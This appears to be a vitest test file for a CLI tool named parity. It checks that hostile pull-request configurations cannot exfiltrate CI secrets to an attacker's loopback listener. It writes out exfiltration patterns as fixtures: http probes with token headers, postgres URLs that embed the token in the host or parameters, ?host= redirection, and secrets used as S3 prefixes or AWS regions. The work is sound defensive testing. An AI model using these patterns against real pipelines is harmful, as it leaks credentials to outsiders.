/**
 * Hostile pull requests that try to send the job's secrets to a host of their choosing (SPEC
 * §7a). The attacker's host is a listener on its own loopback address; every assertion is about
 * what reached it. Each `it` is one attack, tried against a trusted run (defence in depth alone),
 * a pull-request event without `--config-ref`, or `--config-ref` with the base policy.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { jsonReport, runCli } from '../../support/cli.js';
import type { Listener } from './helpers.js';
import { pullRequestRepo, startListener } from './helpers.js';

const TOKEN = 'ghp_hostileCanary0000000000000000000000001';
const AWS_SECRET = 'hostileCanaryAwsSecret0000000000000000002';
const DB_PASSWORD = 'hostile-canary-db-password-3';
const SECURE_STRING = 'hostile-canary-securestring-4';

/** The job's environment: the credentials a pull-request job holds. */
const JOB = {
  GITHUB_TOKEN: TOKEN,
  AWS_ACCESS_KEY_ID: 'AKIAHOSTILECANARY005',
  AWS_SECRET_ACCESS_KEY: AWS_SECRET,
  AWS_REGION: 'us-east-1',
  PARITY_AWS_MAX_ATTEMPTS: '1',
};
const CANARIES = [TOKEN, AWS_SECRET, DB_PASSWORD, SECURE_STRING];

const ssmExport = (
  env: string,
  databaseUrl = `postgres://app:${DB_PASSWORD}@db-${env}.internal/app`,
) =>
  JSON.stringify({
    Parameters: [
      { Name: `/app/${env}/DATABASE_URL`, Type: 'SecureString', Value: databaseUrl },
      { Name: `/app/${env}/SECRET_KEY`, Type: 'SecureString', Value: `${SECURE_STRING}-${env}` },
      { Name: `/app/${env}/MODE`, Type: 'String', Value: 'web' },
    ],
  });

const TRUSTED = {
  'parity.yaml': `version: 1
environments:
  staging: { hosts: { app: staging.example.com } }
  production: { hosts: { app: example.com } }
sources:
  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
`,
  'ssm-staging.json': ssmExport('staging'),
  'ssm-production.json': ssmExport('production'),
};

let attacker: Listener;
beforeAll(async () => {
  attacker = await startListener();
});
afterAll(() => attacker.close());

/** Nothing at all reached the attacker, and no secret appears in what parity printed either. */
function expectNothingLeft(result: { stdout: string; stderr: string }, connectionsBefore: number) {
  expect(attacker.connections() - connectionsBefore).toBe(0);
  for (const canary of CANARIES) {
    expect(attacker.received()).not.toContain(canary);
    expect(result.stdout + result.stderr).not.toContain(canary);
  }
}

describe('hostile pull request: exfiltration', () => {
  let before = 0;
  const config = (body: string) => ({ ...TRUSTED, 'parity.yaml': body });
  const at = () => `${attacker.host}:${attacker.port}`;
  /** A config whose environments may reach the attacker's host (the pull request wrote it). */
  const attackerHosts = () => `version: 1
environments:
  staging: { allowHosts: [${attacker.host}] }
  production: { allowHosts: [${attacker.host}] }
sources:
`;
  afterEach(() => {
    before = attacker.connections();
  });

  const probeToAttacker =
    () => `${attackerHosts()}  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
  exfil:
    type: http
    url: "http://${at()}/collect"
    headers: { X-Token: "\${ENV:GITHUB_TOKEN}", X-Secret: "\${params:SECRET_KEY}" }
`;

  it('an http probe to its own host, on a pull_request event without --config-ref: refused, exit 2', async () => {
    const { dir } = pullRequestRepo(TRUSTED, { 'parity.yaml': probeToAttacker() });
    const result = await runCli(['diff', 'staging', 'production'], {
      cwd: dir,
      env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request', GITHUB_ACTIONS: 'true' },
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/--config-ref/);
    expectNothingLeft(result, before);
  });

  it('a schema source connecting to its own host, on a pull_request event without --config-ref: refused, exit 2', async () => {
    const { dir } = pullRequestRepo(TRUSTED, {
      'parity.yaml': `${attackerHosts()}  db: { type: schema, connection: "postgres://reader:\${ENV:GITHUB_TOKEN}@${at()}/app" }
`,
    });
    const result = await runCli(['diff', 'staging', 'production'], {
      cwd: dir,
      env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request' },
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/sources\.db \(schema\).*--config-ref/s);
    expectNothingLeft(result, before);
  });

  it('a snapshot store of its own, on a pull_request event without --config-ref: refused before any call', async () => {
    const { dir } = pullRequestRepo(TRUSTED, {
      'parity.yaml': `${attackerHosts()}  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
store: "s3://attacker-history/${'x'.repeat(4)}"
`,
    });
    const result = await runCli(['diff', 'staging', 'production@latest'], {
      cwd: dir,
      env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request', AWS_ENDPOINT_URL: `http://${at()}` },
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/\bstore\b.*--config-ref/s);
    // parity log reads the store too: the same refusal.
    const log = await runCli(['log', 'production'], {
      cwd: dir,
      env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request', AWS_ENDPOINT_URL: `http://${at()}` },
    });
    expect(log.code).toBe(2);
    expect(log.stderr).toMatch(/\bstore\b.*--config-ref/s);
    expectNothingLeft(log, before);
    expectNothingLeft(result, before);
  });

  it('the same under pull_request_target', async () => {
    const { dir } = pullRequestRepo(TRUSTED, { 'parity.yaml': probeToAttacker() });
    const result = await runCli(['diff', 'staging', 'production'], {
      cwd: dir,
      env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request_target' },
    });
    expect(result.code).toBe(2);
    expectNothingLeft(result, before);
  });

  it('the same with --config-ref: the base policy runs, the probe is a config-change finding', async () => {
    const { dir, base } = pullRequestRepo(TRUSTED, { 'parity.yaml': probeToAttacker() });
    const result = await runCli(
      ['diff', 'staging', 'production', '--config-ref', base, '-f', 'json'],
      { cwd: dir, env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request' } },
    );
    expect(result.code).toBe(0);
    const change = jsonReport(result).findings.find((f) => f.rule === 'config-change');
    expect(change?.message).toContain('adds http probe "exfil" (http)');
    expectNothingLeft(result, before);
  });

  it('${ENV:…} in an http probe URL (query) on a declared host: a config error, no request', async () => {
    const { dir } = pullRequestRepo(
      config(`${attackerHosts()}  exfil: { type: http, url: "http://${at()}/x?t=\${ENV:GITHUB_TOKEN}" }
`),
    );
    const result = await runCli(['diff', 'staging', 'production'], { cwd: dir, env: JOB });
    expect(result.code).toBe(2);
    expectNothingLeft(result, before);
  });

  it('a decrypted SecureString in an http probe URL path: the source fails, no request', async () => {
    const { dir } = pullRequestRepo(
      config(`${attackerHosts()}  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
  exfil: { type: http, url: "http://${at()}/\${params:SECRET_KEY}" }
`),
    );
    const result = await runCli(['diff', 'staging', 'production', '-f', 'json'], {
      cwd: dir,
      env: JOB,
    });
    expect(result.code).toBe(2);
    expect(jsonReport(result).sources.find((s) => s.name === 'exfil')?.status).toBe('error');
    expectNothingLeft(result, before);
  });

  it('sql: the database URL plus ?host=…&port=… of its own: refused, nothing reaches it', async () => {
    const { dir } = pullRequestRepo(
      config(`${attackerHosts()}  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
  plans:
    type: sql
    connection: "\${params:DATABASE_URL}?host=${attacker.host}&port=${attacker.port}"
    query: SELECT 1 AS id
    key: id
`),
    );
    const result = await runCli(['diff', 'staging', 'production'], { cwd: dir, env: JOB });
    expect(result.code).toBe(2);
    expectNothingLeft(result, before);
  });

  it.each([
    ['the host', '${ENV:GITHUB_TOKEN}.attacker.example:5432/app', 'reader:pw@'],
    ['the user name', `${'${ENV:GITHUB_TOKEN}'}:pw@HOST/app`, ''],
    ['application_name', 'reader:pw@HOST/app?application_name=${ENV:GITHUB_TOKEN}', ''],
    ['options', 'reader:pw@HOST/app?options=-c%20x%3D${ENV:GITHUB_TOKEN}', ''],
  ])(
    'sql: ${ENV:…} in %s of the connection: a config error, nothing reaches it',
    async (_n, tail, head) => {
      const url = `postgres://${head}${tail.replace('HOST', at())}`;
      const { dir } = pullRequestRepo(
        config(`${attackerHosts()}  plans: { type: sql, connection: "${url}", query: SELECT 1 AS id, key: id }
`),
      );
      const result = await runCli(['diff', 'staging', 'production'], { cwd: dir, env: JOB });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/sources\.plans\.connection: \$\{ENV:GITHUB_TOKEN\}/);
      expectNothingLeft(result, before);
    },
  );

  it('sql: a session-altering URL parameter on a declared host: refused before connecting', async () => {
    const { dir } = pullRequestRepo(
      config(`${attackerHosts()}  plans:
    type: sql
    connection: "postgres://reader:pw@${at()}/app?options=-c%20default_transaction_read_only%3Doff"
    query: SELECT 1 AS id
    key: id
`),
    );
    const result = await runCli(['diff', 'staging', 'production', '-f', 'json'], {
      cwd: dir,
      env: JOB,
    });
    expect(result.code).toBe(2);
    expect(jsonReport(result).sources[0]?.error).toMatch(
      /connection parameter "options" is not allowed/,
    );
    expect(attacker.connections() - before).toBe(0);
  });

  it('sql: a database URL the pull request rewrote to its own host (in an export file): refused', async () => {
    // The policy is trusted (the base's); the data file is the pull request's.
    const trusted = {
      ...TRUSTED,
      'parity.yaml': `${TRUSTED['parity.yaml']}  plans: { type: sql, connection: "\${params:DATABASE_URL}", query: SELECT 1 AS id, key: id }
`,
    };
    const { dir, base } = pullRequestRepo(trusted, {
      'ssm-staging.json': ssmExport('staging', `postgres://app:${DB_PASSWORD}@${at()}/app`),
    });
    const result = await runCli(
      ['diff', 'staging', 'production', '--config-ref', base, '-f', 'json'],
      { cwd: dir, env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request' } },
    );
    expect(result.code).toBe(2);
    expect(
      jsonReport(result).sources.find((s) => s.environment === 'staging' && s.name === 'plans')
        ?.error,
    ).toBe(
      `connection host ${attacker.host} is not among this environment's hosts, allowHosts or RDS endpoints (declare it there)`,
    );
    expectNothingLeft(result, before);
  });

  it('schema: a database URL the pull request rewrote to its own host, or redirected by ?host=: refused, nothing reaches it', async () => {
    const trusted = {
      ...TRUSTED,
      'parity.yaml': `${TRUSTED['parity.yaml']}  db: { type: schema, connection: "\${params:DATABASE_URL}" }
`,
    };
    const { dir, base } = pullRequestRepo(trusted, {
      'ssm-staging.json': ssmExport('staging', `postgres://app:${DB_PASSWORD}@${at()}/app`),
      'ssm-production.json': ssmExport(
        'production',
        // Its own declared host, redirected by libpq's `host` parameter.
        `postgres://app:${DB_PASSWORD}@example.com/app?host=${attacker.host}&port=${attacker.port}`,
      ),
    });
    const result = await runCli(
      ['diff', 'staging', 'production', '--config-ref', base, '-f', 'json'],
      { cwd: dir, env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request' } },
    );
    expect(result.code).toBe(2);
    const errors = jsonReport(result)
      .sources.filter((s) => s.name === 'db')
      .map((s) => `${s.environment}: ${s.error ?? ''}`);
    expect(errors).toEqual([
      `staging: connection host ${attacker.host} is not among this environment's hosts, allowHosts or RDS endpoints (declare it there)`,
      'production: connection parameter "host" is not allowed (it could redirect the connection or change the session); only sslmode is',
    ]);
    expectNothingLeft(result, before);
  });

  it('s3: a decrypted secret as the ListObjectsV2 prefix of its own bucket: no request carries it', async () => {
    const { dir } = pullRequestRepo(
      config(`version: 1
environments: { staging: {}, production: {} }
sources:
  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
  bundle: { type: s3-bundle, bucket: attacker-bucket, prefix: "\${params:SECRET_KEY}" }
`),
    );
    const result = await runCli(['diff', 'staging', 'production'], {
      cwd: dir,
      env: { ...JOB, AWS_ENDPOINT_URL_S3: `http://${at()}` },
    });
    expect(result.code).toBe(2);
    expectNothingLeft(result, before);
  });

  it('aws: a secret as the region (it would travel in the endpoint and the signature): refused', async () => {
    const { dir } = pullRequestRepo(
      config(`version: 1
environments:
  staging: { aws: { region: "\${ENV:AWS_SECRET_ACCESS_KEY}" } }
  production: {}
sources:
  params: { type: ssm, path: "/app/\${env}/" }
`),
    );
    const result = await runCli(['diff', 'staging', 'production'], {
      cwd: dir,
      env: { ...JOB, AWS_ENDPOINT_URL: `http://${at()}` },
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(
      /environments\.staging\.aws\.region: \$\{ENV:AWS_SECRET_ACCESS_KEY\}/,
    );
    expectNothingLeft(result, before);
  });
});
